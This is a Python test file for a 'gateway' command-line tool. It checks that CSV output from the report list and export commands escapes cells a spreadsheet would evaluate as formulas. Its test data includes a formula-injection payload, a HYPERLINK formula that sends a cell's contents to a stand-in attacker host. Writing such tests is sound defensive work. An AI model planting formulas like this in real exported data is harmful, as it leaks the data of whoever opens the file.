"""`gateway reports list|export --format csv` neutralise cells a spreadsheet would run as formulas."""

from __future__ import annotations

import asyncio
import csv
import io

import pytest
from typer.testing import CliRunner

from gateway.cli import app
from gateway.wiring import Gateway
from tests.helpers import MakeReport

HOSTILE = '=HYPERLINK("http://evil.example/?d="&B2,"Voir")'


@pytest.fixture
def cli_env(gateway: Gateway) -> dict[str, str]:
    return {"GATEWAY_DATABASE_URL": gateway.settings.database_url, "GATEWAY_LOG_LEVEL": "WARNING"}


@pytest.mark.parametrize("command", [["list", "--format", "csv"], ["export", "--format", "csv"]])
async def test_csv_from_the_cli_is_neutralised(
    cli_env: dict[str, str], make_report: MakeReport, command: list[str]
) -> None:
    await make_report("Zégoua", text=HOSTILE)
    await make_report("Zégoua", text="-20 têtes de bétail volées")
    await make_report("Zégoua", text="Marché fermé")
    result = await asyncio.to_thread(CliRunner().invoke, app, ["reports", *command], env=cli_env)
    assert result.exit_code == 0, result.stderr
    descriptions = {row["description"] for row in csv.DictReader(io.StringIO(result.stdout))}
    assert descriptions == {"'" + HOSTILE, "'-20 têtes de bétail volées", "Marché fermé"}
